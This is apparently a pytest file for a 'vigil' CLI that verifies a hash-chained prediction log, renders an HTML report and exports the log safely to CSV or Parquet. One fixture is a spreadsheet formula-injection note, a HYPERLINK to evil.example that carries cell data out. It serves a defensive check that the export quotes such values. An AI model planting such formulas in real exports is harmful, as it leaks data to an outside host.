"""`vigil audit verify`, `vigil report` and `vigil export` on a log written by the real writer."""

from __future__ import annotations

import csv
import json
import os
import threading
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import update

from service.cli import main as vigil
from service.db.engine import make_engine
from service.db.feedback import add_feedback
from service.db.migrate import upgrade
from service.db.spool import Spool
from service.db.tables import RequestRecord
from service.db.writer import LogWriter
from tests.service.logrows import record


def test_audit_report_and_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'log.db'}"
    upgrade(url)
    engine = make_engine(url)
    recs = [record(i, model_name="mnist-default", input_pixels=b"\x93NUMPY" if i == 0 else None) for i in range(200)]
    for writer_id in ("proc-a", "proc-b"):  # two writers, two chains, interleaved in one table
        w = LogWriter(engine, 1000, 64, 5, spool=Spool(tmp_path / f"{writer_id}.jsonl"), writer_id=writer_id)
        w.start()
        for r in recs[:100] if writer_id == "proc-a" else recs[100:]:
            w.submit(r)
        w.stop()
    notes = {0: '=HYPERLINK("http://evil.example/?"&B2,"click")', 1: "-2+3", 2: "looks like a 7"}  # anyone with a request id may post one
    for i, r in enumerate(recs[:30]):
        add_feedback(engine, r["request_id"], r["predicted_label"] if r["confidence"] > 0.6 else 0, notes.get(i), None, lambda _: None)

    assert vigil(["audit", "verify", "--url", url]) == 0
    assert "OK: 200 rows in 2 chain(s)" in capsys.readouterr().out

    report = tmp_path / "reports" / "report.html"  # its folder made, as every output's
    assert vigil(["report", "--url", url, "--since", "1h", "--out", str(report)]) == 0
    html = report.read_text()
    assert html.count("<svg") == 4 and "Reliability diagram" in html and "http" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "drift" in capsys.readouterr().out

    assert vigil(["export", "--url", url, "--format", "csv", "--out", str(tmp_path / "exports" / "log.csv")]) == 0
    with open(tmp_path / "exports" / "log.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 200 and "input_pixels" not in rows[0]
    assert sum(r["true_label"] != "" for r in rows) == 30 and len(json.loads(rows[0]["probabilities"])) == 10
    assert {r["ood_flagged"] for r in rows} == {"true", "false"}  # JSON, as the API writes booleans
    # A note a spreadsheet would run as a formula is quoted; plain text and numbers stay as they are.
    by_id = {r["request_id"]: r for r in rows}
    assert [by_id[recs[i]["request_id"]]["feedback_note"] for i in range(3)] == ["'" + notes[0], "'-2+3", "looks like a 7"]
    assert float(by_id[recs[0]["request_id"]]["confidence"]) == pytest.approx(recs[0]["confidence"])
    assert vigil(["export", "--url", url, "--format", "parquet", "--out", str(tmp_path / "log.parquet")]) == 0
    table = pq.read_table(tmp_path / "log.parquet")
    assert table.num_rows == 200 and table.column("input_pixels")[0].as_py() == b"\x93NUMPY"
    assert str(table.schema.field("received_at").type) == "timestamp[us, tz=UTC]"

    victim = recs[150]["request_id"]
    with engine.begin() as conn:  # behind the service's back
        conn.execute(update(RequestRecord).where(RequestRecord.request_id == victim).values(decision="abstain"))
    capsys.readouterr()
    assert vigil(["audit", "verify", "--url", url]) == 1
    out = capsys.readouterr().out
    assert f"request_id={victim} writer=proc-b seq=51" in out and "altered" in out
    engine.dispose()


def test_log_commands_refuse_mistakes_in_one_line_and_leave_no_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "missing.db"
    assert vigil(["audit", "verify", "--url", f"sqlite:///{missing}"]) == 2
    assert f"no SQLite database at {missing}" in capsys.readouterr().err
    assert not missing.exists()  # a read-only command created nothing

    empty = tmp_path / "empty.db"
    make_engine(f"sqlite:///{empty}").connect().close()  # a database file without the schema
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"log.{fmt}"
        assert vigil(["export", "--url", f"sqlite:///{empty}", "--format", fmt, "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert "not migrated" in err and "vigil db upgrade" in err and "Traceback" not in err
        assert list(tmp_path.glob("*log*")) == []  # neither a file that looks like an empty log nor a partial one

    assert vigil(["export", "--url", f"sqlite:///{empty}", "--since", "2h", "--until", "3h"]) == 2
    assert "--since must be before --until" in capsys.readouterr().err
    assert vigil(["db", "upgrade", "--url", "notaurl"]) == 2
    assert "bad database URL" in capsys.readouterr().err


@pytest.mark.postgres
def test_db_upgrade_does_not_print_the_password(pg_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    from sqlalchemy.engine import make_url

    with_password = make_url(pg_url).set(password="hunter2").render_as_string(hide_password=False)  # trust auth ignores it
    assert vigil(["db", "upgrade", "--url", with_password]) == 0
    out = capsys.readouterr().out
    assert "upgraded to head" in out and "hunter2" not in out and "***" in out


@pytest.mark.postgres
def test_a_missing_postgres_database_is_not_called_unmigrated(capsys: pytest.CaptureFixture[str]) -> None:
    from sqlalchemy.engine import make_url

    from tests.conftest import POSTGRES_ADMIN_URL

    url = make_url(POSTGRES_ADMIN_URL).set(database="vigil_no_such_database").render_as_string(hide_password=False)
    assert vigil(["audit", "verify", "--url", url]) == 2
    err = capsys.readouterr().err
    assert 'database "vigil_no_such_database" does not exist' in err and "not migrated" not in err, err


def test_export_writes_through_links_and_streams_instead_of_replacing_them(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    """The export was renamed onto its --out: a symlink became a plain file (its target kept
    the old export) and, as root, /dev/stdout a file too. Now the link's file is written, a
    stream (a device or a pipe) is written into, and `-` is stdout."""
    url = f"sqlite:///{tmp_path / 'log.db'}"
    upgrade(url)
    engine = make_engine(url)
    w = LogWriter(engine, 1000, 64, 5, spool=Spool(tmp_path / "spool.jsonl"), writer_id="proc-a")
    w.start()
    for i in range(3):
        w.submit(record(i))
    w.stop()
    engine.dispose()
    real = tmp_path / "target" / "real.csv"
    real.parent.mkdir()
    real.write_text("old export\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert vigil(["export", "--url", url, "--out", str(link)]) == 0
    assert link.is_symlink() and len(real.read_text().splitlines()) == 4  # the header and 3 rows
    capsysbinary.readouterr()
    assert vigil(["export", "--url", url, "--out", "-"]) == 0
    captured = capsysbinary.readouterr()
    assert captured.out == real.read_bytes() and b"exported 3 requests to stdout" in captured.err
    assert not (Path.cwd() / "-").exists()
    fifo = tmp_path / "pipe"  # a stream, as /dev/stdout is (never /dev itself: a regression would replace it)
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    assert vigil(["export", "--url", url, "--out", str(fifo)]) == 0
    reader.join(10)
    assert fifo.is_fifo() and got == [real.read_bytes()]  # written into, not replaced by a file
